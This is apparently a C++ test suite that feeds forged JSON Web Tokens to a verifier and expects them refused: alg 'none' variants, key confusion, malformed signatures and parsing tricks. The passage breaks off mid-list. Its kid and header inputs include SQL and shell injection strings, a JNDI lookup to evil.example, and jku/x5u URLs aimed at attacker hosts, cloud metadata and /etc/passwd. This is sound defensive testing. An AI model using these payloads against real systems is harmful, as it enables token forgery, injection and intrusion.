// The known attacks on JSON Web Tokens, by class, each with its expected answer; the table that is
// printed at the end says how many of each were tried.
#include <openssl/bn.h>

#include <catch2/catch.hpp>
#include <cstdio>
#include <vector>

#include "core/sha256.hpp"
#include "mint.hpp"
#include "subjects.hpp"

using namespace tenancy;
using namespace std::string_literals;
using namespace tenancy::test;

namespace {

constexpr std::int64_t now = 1'800'000'000;
const std::string claims =
    R"({"iss":"https://issuer.example","aud":"app","sub":"s","iat":1799999900,"exp":1800000600})";

struct Rules {
  IssuerRules rules;
  Rules() {
    static constexpr std::string_view audiences[] = {"app"};
    rules.issuer = "https://issuer.example";
    rules.audiences = audiences;
    rules.algorithms = every_algorithm();
    rules.account_claim = "account";
  }
};

std::string set_of(const std::vector<std::string> &keys) {
  std::string text;
  for (const std::string &key : keys) text += (text.empty() ? "" : ",") + key;
  return "{\"keys\":[" + text + "]}";
}

std::string key_id(const Kind &kind) {
  return kind.algorithm +
         std::to_string(kind.signer.key() != nullptr && EVP_PKEY_is_a(kind.signer.key(), "ED448"));
}
std::string header_of(const Kind &kind, const std::string &more = "") {
  return R"({"alg":")"s + kind.algorithm + R"(","kid":")" + key_id(kind) + "\"" + more + "}";
}
std::string sign(const Kind &kind, const std::string &input) {
  return input + "." + encode(kind.signer.sign_by(kind.algorithm, input));
}
std::string token_of(const Kind &kind, const std::string &payload = claims,
                     const std::string &more = "") {
  return sign(kind, encode(header_of(kind, more)) + "." + encode(payload));
}
bool is_public(const Kind &kind) {
  return kind.signer.key() != nullptr;
}

// A public key of each kind, pinned to its algorithm.
const std::string &every_public_key() {
  static const std::string text = [] {
    std::vector<std::string> keys;
    for (const Kind &kind : every_kind()) {
      if (is_public(kind)) {
        keys.push_back(
            kind.signer.jwk(R"("alg":")"s + kind.algorithm + R"(","kid":")" + key_id(kind) + "\""));
      }
    }
    return set_of(keys);
  }();
  return text;
}
std::string secret_of(const Kind &kind) {
  return kind.signer.jwk(R"("alg":")"s + kind.algorithm + R"(","kid":")" + key_id(kind) + "\"");
}
std::string keys_for(const Kind &kind) {
  return is_public(kind) ? every_public_key() : secret_of(kind);
}

// Counts what it judges.
class Suite {
 public:
  void begin(const char *name) { classes_.push_back({name, 0, 0, 0}); }

  void refuse(const std::string &token, const std::string &keys, const Rules &rules = {}) {
    INFO(classes_.back().name << ": " << token.substr(0, 300));
    const std::string verdict = judge(token, keys, rules);
    CHECK(verdict != "none");
    CHECK(verdict != "out_of_memory");
    classes_.back().refused++;
  }
  void accept(const std::string &token, const std::string &keys, const Rules &rules = {}) {
    INFO(classes_.back().name << ": " << token.substr(0, 300));
    CHECK(judge(token, keys, rules) == "none");
    classes_.back().accepted++;
  }
  // One answer or the other, but always the same.
  void either(const std::string &token, const std::string &keys, const Rules &rules = {}) {
    INFO(classes_.back().name << ": " << token.substr(0, 300));
    const std::string verdict = judge(token, keys, rules);
    CHECK(judge(token, keys, rules) == verdict);
    classes_.back().either++;
  }
  void refuse_keys(const std::string &keys, KeySecrecy secrecy = KeySecrecy::public_only) {
    INFO(classes_.back().name << ": " << keys.substr(0, 300));
    const OwnedKeys parsed(parse_key_set(keys, secrecy).keys);
    CHECK_FALSE(parsed);
    classes_.back().refused++;
  }
  void accept_keys(const std::string &keys) {
    INFO(classes_.back().name << ": " << keys.substr(0, 300));
    const OwnedKeys parsed(parse_key_set(keys, KeySecrecy::public_only).keys);
    CHECK(parsed);
    classes_.back().accepted++;
  }

  void print() const {
    int all = 0;
    std::printf("%-14s %8s %8s %8s\n", "attack", "refused", "accepted", "either");
    for (const Class &c : classes_) {
      std::printf("%-14s %8d %8d %8d\n", c.name, c.refused, c.accepted, c.either);
      all += c.refused + c.accepted + c.either;
    }
    std::printf("%-14s %8d\n", "all", all);
  }

 private:
  struct Class {
    const char *name;
    int refused, accepted, either;
  };
  static std::string judge(const std::string &text, const std::string &key_text,
                           const Rules &rules) {
    const ParsedToken parsed = parse(text);
    const OwnedToken token(parsed.token);
    if (!token) return name(parsed.refusal);
    const OwnedIssuer issuer(make_issuer(rules.rules, keys_of(key_text).release()));
    return name(verify(*token, *issuer, now).refusal);
  }
  std::vector<Class> classes_;
};

Kind kind(std::string_view algorithm) {
  for (const Kind &k : every_kind()) {
    if (k.algorithm == algorithm) return k;
  }
  throw std::logic_error("no such algorithm");
}

// A header with this alg as JSON text, for the key of RS256.
std::string with_alg(const std::string &alg) {
  return R"({"alg":)" + alg + R"(,"kid":"RS2560"})";
}

std::string number(const BIGNUM *n, std::size_t size) {
  std::string bytes(size, '\0');
  const int written =
      BN_bn2binpad(n, reinterpret_cast<unsigned char *>(bytes.data()), static_cast<int>(size));
  return written < 0 ? std::string(size, '\xff') : bytes;
}

void sound_tokens(Suite &suite) {
  suite.begin("sound");
  for (const Kind &k : every_kind()) {
    suite.accept(token_of(k), keys_for(k));
    suite.accept(token_of(k, claims, R"(,"typ":"JWT")"), keys_for(k));
  }
}

void alg_none(Suite &suite) {
  suite.begin("alg none");
  const std::string good = token_of(kind("RS256"));
  const std::string borrowed = good.substr(good.rfind('.') + 1);
  const std::string names[] = {R"("none")",
                               R"("None")",
                               R"("NONE")",
                               R"("nOnE")",
                               R"("NonE")",
                               R"(" none")",
                               R"("none ")",
                               R"("none\t")",
                               R"("none\n")",
                               R"("n\u006fne")",
                               "\"n\xd0\xbene\"",
                               R"("none\u0000")",
                               R"("\u0000none")",
                               R"("none\u200b")",
                               R"("")",
                               R"(null)",
                               R"(["none"])",
                               R"({"none":1})",
                               R"(0)",
                               R"(false)",
                               R"(["RS256","none"])"};
  for (const std::string &alg : names) {
    const std::string input = encode(with_alg(alg)) + "." + encode(claims);
    for (const std::string &signature : {""s, "AAAA"s, borrowed}) {
      suite.refuse(input + "." + signature, every_public_key());
    }
    suite.refuse(input, every_public_key());
  }
}

void alg_names(Suite &suite) {
  suite.begin("alg unknown");
  const Kind rs = kind("RS256");
  for (const char *alg :
       {"RS1", "RS255", "RS2560", "RS-256", "SHA256", "ES256K", "Ed25519", "Ed448", "PS128", "HS1",
        "A256GCM", "dir", "RSA-OAEP", "RSA1_5", "PBES2-HS256+A128KW", "RS256,none", "ML-DSA-44"}) {
    suite.refuse(sign(rs, encode(with_alg("\""s + alg + "\"")) + "." + encode(claims)),
                 every_public_key());
  }
  suite.begin("alg case");
  for (const char *alg : {"rs256", "Rs256", "rS256", "RS256 ", " RS256", "RS256\\t", "RS256\\n",
                          "\\u0000RS256", "RS256\\u0000", "R\\u200bS256", "\\uff32S256"}) {
    suite.refuse(sign(rs, encode(with_alg("\""s + alg + "\"")) + "." + encode(claims)),
                 every_public_key());
  }
  suite.accept(sign(rs, encode(with_alg(R"("\u0052S256")")) + "." + encode(claims)),
               every_public_key());
}

void key_confusion(Suite &suite) {
  suite.begin("key confusion");
  for (const Kind &k : every_kind()) {
    if (!is_public(k)) continue;
    const std::string pem = k.signer.public_pem(), der = k.signer.public_der();
    std::string crlf;
    for (const char c : pem) crlf += c == '\n' ? "\r\n" : std::string(1, c);
    for (const std::string &secret :
         {pem, pem.substr(0, pem.size() - 1), crlf, " " + pem, "\n" + pem, pem + "\n", pem + "\0"s,
          der, k.signer.jwk(), every_public_key(), ""s, std::string(32, '\0')}) {
      const Signer hmac = Signer::oct(secret);
      for (const char *alg : {"HS256", "HS512"}) {
        const std::string header = R"({"alg":")"s + alg + R"(","kid":")" + key_id(k) + "\"}";
        suite.refuse(sign({alg, hmac}, encode(header) + "." + encode(claims)), every_public_key());
      }
      // The same of a key that names no algorithm (CVE-2026-44699: of no secret at all).
      for (const char *alg : {"HS256", "HS384", "HS512"}) {
        const std::string header = R"({"alg":")"s + alg + "\"}";
        suite.refuse(sign({alg, hmac}, encode(header) + "." + encode(claims)), k.signer.jwk());
      }
      // Under the key's own name.
      suite.refuse(encode(header_of(k)) + "." + encode(claims) + "." +
                       encode(hmac.sign(encode(header_of(k)) + "." + encode(claims))),
                   k.signer.jwk());
    }
  }
  suite.begin("mixed sets");
  const std::string a = Signer::es256().jwk(R"("kid":"a")"),
                    s = Signer::hs256().jwk(R"("kid":"s")");
  for (const std::string &keys :
       {set_of({a, s}), set_of({s, a}), set_of({a, R"({"kty":"oct","k":""})"}),
        set_of({s, R"({"kty":"RSA"})"}), set_of({a, a}),
        set_of({a, Signer::rs256().jwk(R"("kid":"a")")}), set_of({a, R"({"kty":"AKP","kid":"a"})"}),
        set_of({s, s})}) {
    suite.refuse_keys(keys, KeySecrecy::allow_secrets);
  }
  suite.refuse_keys(s);
}

void pinned(Suite &suite) {
  suite.begin("alg pinned");
  for (const Kind &k : every_kind()) {
    for (const Kind &other : every_kind()) {
      if (k.algorithm == std::string_view(other.algorithm) || is_public(k) != is_public(other)) {
        continue;
      }
      // The token says what the key is not for, and is signed by that very key where it can be.
      const std::string header =
          R"({"alg":")"s + other.algorithm + R"(","kid":")" + key_id(k) + "\"}";
      suite.refuse(sign({other.algorithm, other.signer}, encode(header) + "." + encode(claims)),
                   keys_for(k));
    }
  }
  suite.begin("alg of family");
  for (const char *alg : {"RS256", "RS384", "PS256", "PS512"}) {
    suite.either(token_of(kind(alg)), Signer::rs256().jwk(R"("kid":")" + key_id(kind(alg)) + "\""));
  }
  suite.begin("alg curve");
  for (const auto &[alg, curve] : {std::pair("ES256", "P-384"),
                                   {"ES256", "P-521"},
                                   {"ES384", "P-256"},
                                   {"ES384", "P-521"},
                                   {"ES512", "P-256"},
                                   {"ES512", "P-384"},
                                   {"ES256", "secp256k1"},
                                   {"ES256", "secp224r1"}}) {
    const Signer signer = Signer::ec(curve);
    const std::string token = mint(signer, R"({"alg":")"s + alg + "\"}", claims);
    suite.refuse(token, signer.jwk());
    suite.refuse(token, signer.jwk(R"("alg":")"s + alg + "\""));
  }
  for (const char *digest : {"SHA1", "SHA384", "SHA512"}) {
    const std::string input = encode(header_of(kind("ES256"))) + "." + encode(claims);
    suite.refuse(input + "." + encode(Signer::es256().sign(input, digest)), every_public_key());
  }
}

void key_ids(Suite &suite) {
  suite.begin("kid");
  const Kind es = kind("ES256");
  const auto signed_as = [&](const std::string &kid) {
    return sign(es, encode(R"({"alg":"ES256","kid":)" + kid + "}") + "." + encode(claims));
  };
  for (const char *kid : {"../ES2560",
                          "../../../../dev/null",
                          "/dev/null",
                          "/etc/passwd",
                          "file:///dev/null",
                          "C:\\\\nul",
                          "%2e%2e%2f",
                          "ES2560/",
                          "./ES2560",
                          "ES2560' OR '1'='1",
                          "x' UNION SELECT 'AA'; --",
                          "ES2560; DROP TABLE keys",
                          "ES2560\\\"--",
                          "$(id)",
                          "`id`",
                          "|id",
                          ";id",
                          "&& id",
                          "${jndi:ldap://evil.example/a}",
                          "{{7*7}}",
                          "<script>",
                          "https://evil.example/jwks.json",
                          "es2560",
                          "ES256",
                          "ES25600",
                          "ES2560 ",
                          " ES2560",
                          "ES2560\\t",
                          "ES2560\\n",
                          "\\nES2560",
                          "ES2560\\u0000",
                          "\\u0000",
                          "\\u0000ES2560",
                          "ES\\u0000",
                          "\\uff25S2560",
                          "E\\u0405256",
                          "\\u202eES2560",
                          "\\ud83d\\ude00",
                          "\\u200b",
                          "*",
                          "%",
                          "_",
                          "ES*",
                          "ES____",
                          "0",
                          "1",
                          "-1",
                          "true",
                          "null",
                          "undefined",
                          "NaN",
                          "[]",
                          "{}",
                          "",
                          " "}) {
    suite.refuse(signed_as("\""s + kid + "\""), every_public_key());
  }
  for (const std::string kid :
       {"null", "0", "1", "true", "[]", "[\"ES2560\"]", "{}", "{\"ES2560\":1}", "1.5"}) {
    suite.refuse(signed_as(kid), every_public_key());
  }
  for (const char *other : {"ES3840", "ES5120", "RS2560", "PS2560", "EdDSA0", "EdDSA1"}) {
    suite.refuse(signed_as("\""s + other + "\""), every_public_key());
  }
  suite.refuse(signed_as("\"" + std::string(1025, 'k') + "\""), every_public_key());
  suite.refuse(signed_as("\"" + std::string(100000, 'k') + "\""), every_public_key());
  suite.either(mint(Signer::es256(), R"({"alg":"ES256"})", claims), every_public_key());
  suite.either(mint(Signer::es256(), R"({"alg":"ES256"})", claims), Signer::es256().jwk());
}

void header_members(Suite &suite) {
  suite.begin("key in header");
  const Signer evil = Signer::rsa(2048);
  const std::string evil_key = evil.jwk(R"("kid":"RS2560")");
  const Kind rs = kind("RS256");
  for (const std::string &member :
       {R"("jwk":)" + evil_key, R"("jwk":null)"s, R"("jwk":{})"s, R"("jwk":"")"s,
        R"("jwks":{"keys":[]},"jwk":{})"s, R"("jku":"https://evil.example/jwks.json")"s,
        R"("jku":"http://169.254.169.254/")"s, R"("jku":"")"s, R"("jku":null)"s,
        R"("x5u":"https://evil.example/x.pem")"s, R"("x5u":"file:///etc/passwd")"s,
        R"("x5c":["MIIB"])"s, R"("x5c":[])"s, R"("x5t":"AA")"s, R"("x5t#S256":"AA")"s,
        R"("x5t":null)"s, R"("\u006awk":)" + evil_key, R"("jk\u0075":"https://evil.example")"s}) {
    suite.refuse(token_of(rs, claims, "," + member), every_public_key());
    const std::string input = encode(header_of(rs, "," + member)) + "." + encode(claims);
    suite.refuse(input + "." + encode(evil.sign(input)), every_public_key());
  }
  suite.begin("crit, zip, b64");
  for (const std::string member : {R"("crit":["exp"])",
                                   R"("crit":["unknown"],"unknown":1)",
                                   R"("crit":[])",
                                   R"("crit":"exp")",
                                   R"("crit":null)",
                                   R"("crit":true)",
                                   R"("crit":{})",
                                   R"("crit":[1])",
                                   R"("crit":[null])",
                                   R"("crit":["alg"])",
                                   R"("crit":["kid","kid"])",
                                   R"("crit":["b64"],"b64":false)",
                                   R"("crit":["b64"],"b64":true)",
                                   R"("b64":false)",
                                   R"("b64":true)",
                                   R"("b64":"false")",
                                   R"("b64":null)",
                                   R"("zip":"DEF")",
                                   R"("zip":"NONE")",
                                   R"("zip":"")",
                                   R"("zip":null)",
                                   R"("cr\u0069t":["exp"])",
                                   R"("enc":"A256GCM")",
                                   R"("cty":"JWT")",
                                   R"("cty":"jwt")"}) {
    suite.refuse(token_of(rs, claims, "," + member), every_public_key());
  }
}

void ecdsa(Suite &suite) {
  suite.begin("ecdsa");
  const struct {
    const char *algorithm;
    std::string order;
  } curves[] = {
      {"ES256", unhex("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551")},
      {"ES384", unhex(std::string(48, 'f') + "c7634d81f4372ddf581a0db248b0a77aecec196accc52973")},
      {"ES512", unhex("01" + std::string(64, 'f') +
                      "fa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409")},
  };
  for (const auto &[algorithm, order] : curves) {
    const Kind k = kind(algorithm);
    const std::string input = encode(header_of(k)) + "." + encode(claims);
    const std::string good = k.signer.sign_by(algorithm, input);
    const std::size_t half = order.size();
    const std::string r = good.substr(0, half), s = good.substr(half);
    BIGNUM *n = BN_bin2bn(reinterpret_cast<const unsigned char *>(order.data()),
                          static_cast<int>(half), nullptr);
    BIGNUM *x = BN_new();
    const auto offset = [&](int by) {
      BN_copy(x, n);
      by < 0 ? BN_sub_word(x, 1) : BN_add_word(x, static_cast<unsigned>(by));
      return number(x, half);
    };
    const auto plus = [&](const std::string &part) {
      BN_bin2bn(reinterpret_cast<const unsigned char *>(part.data()), static_cast<int>(half), x);
      BN_add(x, x, n);
      return number(x, half);
    };
    const std::string zero(half, '\0'), one = std::string(half - 1, '\0') + "\x01";
    const std::vector<std::string> edges = {
        zero, one, offset(-1), order, offset(1), plus(r), std::string(half, '\xff')};
    const auto refuse = [&](const std::string &signature) {
      suite.refuse(input + "." + encode(signature), every_public_key());
    };
    for (const std::string &a : edges) {
      for (const std::string &b : edges) refuse(a + b);
      refuse(a + s);
      refuse(r + a);
    }
    refuse(r + plus(s));
    refuse(s + r);
    refuse(r);
    refuse(s);
    refuse(good.substr(0, good.size() - 1));
    refuse(good + "\0"s);
    refuse("\0"s + good);
    refuse("\0"s + r + "\0"s + s);
    refuse(good + good);
    refuse(k.signer.sign_der(input));
    for (const std::size_t size : {1, 63, 65, 127, 133, 1000, 12000}) {
      refuse(std::string(size, '\x01'));
    }
    suite.refuse(input + "." + encode(std::string(16386, '\x01')), every_public_key());
    suite.refuse(input + "." + encode(std::string(65536, '\x01')), every_public_key());
    // The same signature with the other root; nothing may take a token's bytes for its identity.
    BN_bin2bn(reinterpret_cast<const unsigned char *>(s.data()), static_cast<int>(half), x);
    BN_sub(x, n, x);
    suite.either(input + "." + encode(r + number(x, half)), every_public_key());
    BN_free(x);
    BN_free(n);
  }
}

std::string pkcs1_block(const std::string &algorithm_id, const std::string &digest,
                        const std::string &lead, char fill) {
  const std::size_t rest = 256 - lead.size() - 1 - algorithm_id.size() - digest.size();
  return lead + std::string(rest, fill) + "\0"s + algorithm_id + digest;
}

void rsa(Suite &suite) {
  const Kind k = kind("RS256");
  const std::string input = encode(header_of(k)) + "." + encode(claims);
  const std::string good = k.signer.sign(input);
  const auto refuse = [&](const std::string &signature) {
    suite.refuse(input + "." + encode(signature), every_public_key());
  };
  suite.begin("rsa");
  BIGNUM *n = nullptr, *x = BN_new();
  EVP_PKEY_get_bn_param(k.signer.key(), "n", &n);
  for (const int by : {-1, 0, 1}) {
    BN_copy(x, n);
    by < 0 ? BN_sub_word(x, 1) : BN_add_word(x, static_cast<unsigned>(by));
    refuse(number(x, 256));
  }
  BN_bin2bn(reinterpret_cast<const unsigned char *>(good.data()), 256, x);
  BN_add(x, x, n);
  refuse(number(x, 257));
  BN_free(x);
  BN_free(n);
  for (const std::size_t size : {0, 1, 2, 3, 64, 128, 255, 257, 512, 10000}) {
    refuse(std::string(size, '\0'));
    refuse(std::string(size, '\x01'));
  }
  for (const std::string &signature :
       {std::string(256, '\0'), std::string(255, '\0') + "\x01", std::string(256, '\xff'),
        good.substr(1), good.substr(0, 255), "\0"s + good, good + "\0"s, good + good}) {
    refuse(signature);
  }
  suite.refuse(input + "." + encode(std::string(1 << 20, '\x01')), every_public_key());
  refuse(k.signer.sign_pss(input, {}));
  for (const char *digest : {"SHA1", "SHA384", "SHA512"}) refuse(k.signer.sign(input, digest));
  refuse(Signer::rsa(2048).sign(input));

  suite.begin("rsa padding");
  const auto hash = sha256(input);
  const std::string digest(reinterpret_cast<const char *>(hash->data()), hash->size());
  const std::string id = unhex("3031300d060960864801650304020105000420");
  const std::string lead = "\0\x01"s;
  REQUIRE(k.signer.sign_block(pkcs1_block(id, digest, lead, '\xff')) == good);
  const std::string without_null = unhex(
      "302f300b0609608648016503040201"
      "0420");
  const std::string sha1_id = unhex("3021300906052b0e03021a05000414");
  const std::string sha512_id = unhex("3051300d060960864801650304020305000440");
  std::string changed_fill = pkcs1_block(id, digest, lead, '\xff');
  changed_fill[100] = '\xfe';
  std::string early_zero = pkcs1_block(id, digest, lead, '\xff');
  early_zero[20] = '\0';
  std::string long_form =
      pkcs1_block(unhex("308131300d060960864801650304020105000420"), digest, lead, '\xff');
  const std::string blocks[] = {
      pkcs1_block(without_null, digest, lead, '\xff'),
      pkcs1_block(sha1_id, digest.substr(0, 20), lead, '\xff'),
      pkcs1_block(sha512_id, digest + digest, lead, '\xff'),
      pkcs1_block("", digest, lead, '\xff'),
      pkcs1_block(id, digest, "\0\x02"s, '\xff'),
      pkcs1_block(id, digest, "\0\x00"s, '\xff'),
      pkcs1_block(id, digest, "\0\x01"s, '\x00'),
      pkcs1_block(id, digest, "\0\x01"s, '\x01'),
      changed_fill,
      early_zero,
      long_form,
      // Bleichenbacher's: garbage behind a digest that stands early.
      lead + std::string(8, '\xff') + "\0"s + id + digest +
          std::string(256 - 2 - 8 - 1 - 19 - 32, 'g'),
      lead + "\0"s + id + digest + std::string(256 - 2 - 1 - 19 - 32, '\0'),
  };
  for (const std::string &block : blocks) refuse(k.signer.sign_block(block));

  suite.begin("rsa pss");
  for (const char *algorithm : {"PS256", "PS384", "PS512"}) {
    const Kind ps = kind(algorithm);
    const std::string in = encode(header_of(ps)) + "." + encode(claims);
    const std::string own = "SHA"s + (algorithm + 2);
    const int salt = std::stoi(algorithm + 2) / 8;
    const auto refuse_pss = [&](const std::string &signature) {
      suite.refuse(in + "." + encode(signature), every_public_key());
    };
    for (const int other : {0, 1, 20, salt - 1, salt + 1, 256 - salt - 2}) {
      refuse_pss(ps.signer.sign_pss(in, {own.c_str(), other}));
    }
    for (const char *other : {"SHA1", "SHA256", "SHA384", "SHA512"}) {
      if (other == own) continue;
      refuse_pss(ps.signer.sign_pss(in, {other, salt}));
      refuse_pss(ps.signer.sign_pss(in, {own.c_str(), salt, other}));
    }
    refuse_pss(ps.signer.sign(in, own.c_str()));
    const std::string signature = ps.signer.sign_by(algorithm, in);
    refuse_pss("\0"s + signature);
    refuse_pss(signature.substr(1));
    refuse_pss(std::string(256, '\0'));
    std::string top = signature;
    top[0] = static_cast<char>(top[0] ^ '\x80');
    refuse_pss(top);
    top = signature;
    top[255] = static_cast<char>(top[255] ^ 1);
    refuse_pss(top);
  }
}

void eddsa(Suite &suite) {
  suite.begin("eddsa");
  for (const Kind &k : every_kind()) {
    if (k.algorithm != "EdDSA"s) continue;
    const std::string input = encode(header_of(k)) + "." + encode(claims);
    const std::string good = k.signer.sign(input);
    const std::size_t half = good.size() / 2;
    const std::string order =
        half == 32 ? unhex("edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010")
                   : unhex("f34458ab92c27823558fc58d72c26c219036d6ae49db4ec4e923ca7c" +
                           std::string(54, 'f') + "3f00");
    std::string above = good.substr(half);
    int carry = 0;
    for (std::size_t i = 0; i < half; i++) {
      const int sum =
          static_cast<unsigned char>(above[i]) + static_cast<unsigned char>(order[i]) + carry;
      above[i] = static_cast<char>(sum);
      carry = sum >> 8;
    }
    const auto refuse = [&](const std::string &signature) {
      suite.refuse(input + "." + encode(signature), every_public_key());
    };
    for (const std::string &signature :
         {good.substr(0, half) + above, ""s, good.substr(1), good.substr(0, good.size() - 1),
          good + "\0"s, std::string(2 * half, '\0'), std::string(2 * half, '\xff'),
          good.substr(half) + good.substr(0, half), good.substr(0, half) + std::string(half, '\0'),
          std::string(half, '\0') + good.substr(half), good + good}) {
      refuse(signature);
    }
  }
  const std::string crv[] = {"Ed25519", "Ed448"};
  for (const std::size_t size : {32, 57}) {
    for (const char first : {'\0', '\1'}) {
      const std::string point = first + std::string(size - 1, '\0');
      suite.refuse_keys(R"({"kty":"OKP","crv":")" + crv[size == 57] + R"(","x":")" + encode(point) +
                        "\"}");
    }
  }
}

void hmac(Suite &suite) {
  suite.begin("hmac");
  for (const char *algorithm : {"HS256", "HS384", "HS512"}) {
    const Kind k = kind(algorithm);
    const std::string input = encode(header_of(k)) + "." + encode(claims);
    const std::string good = k.signer.sign_by(algorithm, input);
    std::string hex;
    for (const char c : good) {
      hex += "0123456789abcdef"[static_cast<unsigned char>(c) >> 4];
      hex += "0123456789abcdef"[c & 0xf];
    }
    for (const std::string &signature :
         {""s, good.substr(0, 1), good.substr(0, 16), good.substr(0, good.size() - 1), good + "\0"s,
          good + good, hex, encode(good), std::string(good.size(), '\0'),
          Signer::oct("").sign_by(algorithm, input),
          Signer::oct("secret").sign_by(algorithm, input), k.signer.sign(input, "SHA1")}) {
      suite.refuse(input + "." + encode(signature), secret_of(k));
    }
    const std::size_t least = good.size();
    for (const std::size_t size : {std::size_t{0}, std::size_t{1}, std::size_t{31}, least - 1}) {
      const Signer weak = Signer::oct(std::string(size, 's'));
      const std::string key =
          weak.jwk(R"("alg":")"s + algorithm + R"(","kid":")" + key_id(k) + "\"");
      suite.refuse(sign({algorithm, weak}, input), key);
      suite.refuse_keys(key, KeySecrecy::allow_secrets);
    }
  }
}

void base64url(Suite &suite) {
  suite.begin("base64url");
  const Kind k = kind("EdDSA");
  const std::string h = encode(header_of(k)), p = encode(claims);
  const auto changes = [](const std::string &segment) {
    const std::string middle = segment.substr(0, 4), rest = segment.substr(4);
    return std::vector<std::string>{
        segment + "=",
        segment + "==",
        "=" + segment,
        middle + "=" + rest,
        segment + " ",
        " " + segment,
        middle + " " + rest,
        segment + "\n",
        "\n" + segment,
        middle + "\n" + rest,
        segment + "\r\n",
        segment + "\t",
        middle + "+" + rest,
        middle + "/" + rest,
        segment + "\0"s,
        middle + "\0"s + rest,
        middle + "%3d" + rest,
        "\xef\xbb\xbf" + segment,
        middle + "?" + rest,
        middle + "," + rest,
        middle + "\xc3\xa9" + rest,
        segment + "!",
        segment + "A"s + std::string(segment.size() % 4 == 0 ? 0 : 4 - segment.size() % 4, 'A'),
        middle + "~" + rest,
        segment + "====",
        segment + "%00",
        segment + "\x7f",
        segment + "\xef\xbc\xa1",
        middle + "\v" + rest,
        middle + "\\u0041" + rest};
  };
  for (const std::string &header : changes(h))
    suite.refuse(sign(k, header + "." + p), every_public_key());
  for (const std::string &payload : changes(p))
    suite.refuse(sign(k, h + "." + payload), every_public_key());
  const std::string good = sign(k, h + "." + p);
  const std::string signature = good.substr(good.rfind('.') + 1);
  for (const std::string &other : changes(signature)) {
    suite.refuse(h + "." + p + "." + other, every_public_key());
  }
  // Bits behind the last byte, in each segment where there are any.
  const auto spare_bits = [](std::string segment) {
    const std::string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    segment.back() = alphabet[alphabet.find(segment.back()) + 1];
    return segment;
  };
  const std::string two = encode(claims + " "), three = encode(claims + "  ");
  for (const std::string &payload : {p, two, three}) {
    if (payload.size() % 4 == 0) continue;
    suite.refuse(sign(k, h + "." + spare_bits(payload)), every_public_key());
  }
  suite.refuse(h + "." + p + "." + spare_bits(signature), every_public_key());
}

void structure(Suite &suite) {
  suite.begin("structure");
  const Kind k = kind("EdDSA");
  const std::string good = token_of(k), nested = encode(good);
  const std::string h = encode(header_of(k)), p = encode(claims);
  const std::string s = good.substr(good.rfind('.') + 1);
  const std::string cases[] = {
      "", ".", "..", "...", "....", ".....", h, h + ".", h + "." + p, h + "." + p + ".",
      "." + p + "." + s, h + ".." + s, ".." + s, h + "." + s + "." + p, p + "." + h + "." + s,
      good + ".", "." + good, good + "." + s, h + "." + good, good + "." + good,
      h + "." + p + "." + s + "." + s + "." + s, std::string(1000000, '.'), std::string(16384, '.'),
      "Bearer " + good, "bearer " + good, "\"" + good + "\"", "'" + good + "'", "[" + good + "]",
      good + "\n", good + "\r\n", "\n" + good, " " + good, good + " ", "\t" + good, good + "\0"s,
      "\0"s + good, good + "\0.x"s, good + ";", good + ",", good + "#", good + "?", good + "&x=1",
      h + " . " + p + " . " + s, h + "\xe3\x80\x82" + p + "\xe3\x80\x82" + s,
      // JSON serializations (RFC 7515 7.2)
      R"({"protected":")" + h + R"(","payload":")" + p + R"(","signature":")" + s + "\"}",
      R"({"payload":")" + p + R"(","signatures":[{"protected":")" + h + R"(","signature":")" + s +
          "\"}]}",
      // JWE (RFC 7516), and what looks like one
      encode(R"({"alg":"dir","enc":"A256GCM"})") + "..AAAA.AAAA.AAAA",
      encode(R"({"alg":"none","enc":"A256GCM"})") + ".." + p + "..",
      encode(R"({"alg":"dir","enc":"none"})") + "." + p + ".",
      // a token in a token
      sign(k, encode(header_of(k, R"(,"cty":"JWT")")) + "." + nested), sign(k, h + "." + nested)};
  for (const std::string &text : cases) suite.refuse(text, every_public_key());
}

void json(Suite &suite) {
  const Kind k = kind("EdDSA");
  const auto header = [&](const std::string &text) {
    suite.refuse(sign(k, encode(text) + "." + encode(claims)), every_public_key());
  };
  const std::string base = header_of(k);
  const std::string inner = base.substr(1, base.size() - 2);
  suite.begin("header json");
  for (const std::string &text : {""s,
                                  " "s,
                                  "null"s,
                                  "true"s,
                                  "0"s,
                                  "\"\""s,
                                  "[]"s,
                                  "[" + base + "]",
                                  "{"s,
                                  "}"s,
                                  "{}"s,
                                  base + base,
                                  base + "x",
                                  base + ",",
                                  base + "//",
                                  base + "/**/",
                                  "/**/" + base,
                                  base.substr(0, base.size() - 1),
                                  base + "\0"s,
                                  "\0"s + base,
                                  "\xef\xbb\xbf" + base,
                                  "{" + inner + ",}",
                                  "{," + inner + "}",
                                  "{" + inner + ",\"x\":NaN}",
                                  "{" + inner + ",\"x\":Infinity}",
                                  "{" + inner + ",\"x\":-Infinity}",
                                  "{" + inner + ",\"x\":0x1}",
                                  "{" + inner + ",\"x\":01}",
                                  "{" + inner + ",\"x\":1.}",
                                  "{" + inner + ",\"x\":.5}",
                                  "{" + inner + ",\"x\":+1}",
                                  "{" + inner + ",\"x\":1e400}",
                                  "{" + inner + ",\"x\":" + std::string(400, '9') + "}",
                                  "{" + inner + ",x:1}",
                                  "{" + inner + ",'x':1}",
                                  "{" + inner + ",\"x\":'1'}",
                                  "{" + inner + ",\"x\":True}",
                                  "{" + inner + ",\"x\":undefined}",
                                  "{" + inner + ",\"x\"}",
                                  "{" + inner + ",\"x\":}",
                                  "{" + inner + ",1:1}",
                                  "{" + inner + ";\"x\":1}",
                                  "{" + inner + ",\"x\":\"\n\"}",
                                  "{" + inner + ",\"x\":\"\\x41\"}",
                                  "{" + inner + ",\"x\":\"\\u12\"}",
                                  "{" + inner + ",\"x\":\"\\ud800\"}",
                                  "{" + inner + ",\"x\":\"\\udc00\\ud800\"}",
                                  "{" + inner + ",\"x\":\"\\u0000\"}",
                                  "{" + inner + ",\"\\u0000\":1}",
                                  "{" + inner + ",\"x\":\"\xff\"}",
                                  "{" + inner + ",\"x\":\"\xc0\xaf\"}",
                                  "{" + inner + ",\"x\":\"\xe0\x80\xaf\"}",
                                  "{" + inner + ",\"x\":\"\xed\xa0\x80\"}",
                                  "{" + inner + ",\"x\":\"\xf4\x90\x80\x80\"}",
                                  "{" + inner + ",\"x\":\"\xc3\"}",
                                  "{" + inner + ",\"x\":1\0}"s,
                                  "{" + inner + ",\"x\":true\0}"s,
                                  "{" + inner + ",\"x\":[1,]}",
